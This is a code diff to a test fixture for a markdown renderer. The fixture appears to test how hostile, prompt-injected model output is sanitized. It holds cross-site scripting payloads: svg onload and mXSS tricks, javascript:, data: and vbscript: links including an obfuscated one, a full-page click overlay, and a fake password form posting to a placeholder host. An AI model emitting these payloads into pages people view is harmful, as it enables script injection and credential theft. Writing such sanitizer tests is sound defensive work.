@@ -1,7 +1,7 @@
-import { markdown } from './markdown';
+import { prose } from './prose';
 
 /** What a model may say when somebody has talked it into it. `.invalid` names never resolve. */
-export const HOSTILE = markdown`
+export const HOSTILE = prose`
 A picture of the shop's own:
 
 ![The harbour at dusk](/files/tools/coast.svg)
@@ -18,8 +18,8 @@ One from elsewhere, which would tell its host who reads this:
 <svg onload="window.dify_hacked = 'svg'"><a xlink:href="javascript:window.dify_hacked='xlink'"><text y="20">svg</text></a></svg>
 <math><mtext><table><mglyph><style><img src=x onerror="window.dify_hacked='mxss'"></style></mglyph></table></mtext></math>
 
-[A script in a link](javascript:window.dify_hacked='link'), [one in disguise](<java	script:alert(1)>),
-[data](<data:text/html,\<script\>alert(1)\</script\>>), [vbscript](<vbscript:msgbox(1)>), [an honest one](https://harbor-goods.example/).
+[A script in a link](javascript:window.dify_hacked='link'), [one in disguise](&#106;ava&Tab;script:alert(1)),
+[data](data:text/html,<script>alert(1)</script>), [vbscript](vbscript:msgbox(1)), [an honest one](https://harbor-goods.example/).
 
 <a href="https://harbor-goods.example/" target="_top" onclick="window.dify_hacked = 'onclick'" style="position:fixed;inset:0">all over the page</a>
 <form action="https://form.invalid/" target="_top"><input name="password" type="password"><button formaction="javascript:alert(1)">Sign in</button></form>
